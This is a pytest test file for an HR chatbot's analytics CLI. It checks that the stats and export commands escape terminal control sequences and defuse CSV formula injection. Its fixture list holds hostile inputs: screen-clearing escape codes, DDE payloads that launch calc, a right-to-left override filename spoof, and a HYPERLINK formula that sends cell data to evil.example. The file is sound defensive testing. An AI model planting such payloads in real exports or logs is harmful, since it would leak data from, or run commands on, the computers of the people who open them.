"""What HR prints and opens is safe: no escape sequences reach a terminal, no formula runs in a spreadsheet."""

from __future__ import annotations

import csv
import io
import json
from datetime import datetime, timezone
from pathlib import Path

import pytest
from click.testing import CliRunner

from bot.analytics import TABLE, open_database
from bot.cli import cli
from bot.textsafe import csv_cell, for_terminal

NOW = datetime.now(timezone.utc).isoformat(timespec="milliseconds")
# Questions as an older version of the bot, or any other tool, may have stored them.
HOSTILE = [
    "\x1b[2J\x1b[31mRED\x1b]0;owned\x07 給料は？",
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    "abc\u202egnp.exe",
    "x\x9by",
]


@pytest.fixture
def hostile_log(tmp_path: Path) -> Path:
    path = tmp_path / "log.db"
    db = open_database(path)
    db[TABLE].insert_all([
        {"id": f"{n:016x}", "ts": NOW, "channel": "web", "user_hash": "", "question": text, "lang": "ja",
         "kind": "fallback", "entry_id": None, "score": -1.5, "matched": 0, "latency_ms": 1.0, "kb_version": "v1"}
        for n, text in enumerate(HOSTILE)])
    db.close()
    return path


def run(tmp_path: Path, db: Path, *args: str) -> str:
    result = CliRunner().invoke(cli, ["--env-file", str(tmp_path / "none.env"), *args],
                                env={"MINATO_DB": str(db), "MINATO_KB_DIR": ""}, catch_exceptions=False)
    assert result.exit_code == 0, result.output
    return result.stdout


def test_for_terminal_shows_controls_as_symbols() -> None:
    assert for_terminal("a\x1b[31mb\x00\x07\n\t\x7f\x9b\u202e") == "a␛[31mb␀␇␊␉␡\\u009b\\u202e"
    assert for_terminal("食堂はある？ 😀") == "食堂はある？ 😀"


@pytest.mark.parametrize(("cell", "shown"), [
    ("=1+1", "'=1+1"), ("+1+1", "'+1+1"), ("-1+1", "'-1+1"), ("@SUM(A1)", "'@SUM(A1)"), ("\t=1", "'\t=1"),
    ("\r=1", "␍=1"), ("  =1", "'  =1"), ("＝1", "'＝1"), ("-12", "-12"), ("-1.5", "-1.5"), ("+81", "+81"),
    ("食堂は？", "食堂は？"), ("a=b", "a=b"), ("x\x1b[2Jy", "x␛[2Jy"), ("line 1\nline 2", "line 1\nline 2"),
    (-1.5, -1.5), (3, 3), (None, None),
])
def test_csv_cell_quotes_formula_starts_only(cell: object, shown: object) -> None:
    assert csv_cell(cell) == shown


@pytest.mark.parametrize("args", [["stats"], ["stats", "--csv"], ["export", "--csv"]])
def test_no_escape_sequence_or_control_reaches_the_terminal(hostile_log: Path, tmp_path: Path,
                                                            args: list[str]) -> None:
    printed = run(tmp_path, hostile_log, *args)
    assert "\x1b" not in printed and "\x07" not in printed and "\u202e" not in printed
    assert "␛[2J" in printed


def test_stats_json_escapes_what_json_dumps_leaves_raw_and_keeps_the_data(hostile_log: Path, tmp_path: Path) -> None:
    printed = run(tmp_path, hostile_log, "stats", "--json")
    assert "\u202e" not in printed and "\x9b" not in printed
    texts = [group["text"] for group in json.loads(printed)["unanswered"]]
    assert "abc\u202egnp.exe" in texts and "x\x9by" in texts


@pytest.mark.parametrize("args", [["stats", "--csv"], ["export", "--csv"]])
def test_no_csv_cell_starts_a_formula(hostile_log: Path, tmp_path: Path, args: list[str]) -> None:
    rows = list(csv.reader(io.StringIO(run(tmp_path, hostile_log, *args))))
    cells = [cell for row in rows[1:] for cell in row]
    assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r", "＝") or c.startswith("-") and c != "-1.5"]
    assert any(c.startswith("'=HYPERLINK") for c in cells) and any(c.startswith("'@SUM") for c in cells)


def test_export_keeps_negative_numbers_numeric(hostile_log: Path, tmp_path: Path) -> None:
    rows = list(csv.DictReader(io.StringIO(run(tmp_path, hostile_log, "export", "--csv"))))
    assert {row["score"] for row in rows} == {"-1.5"}
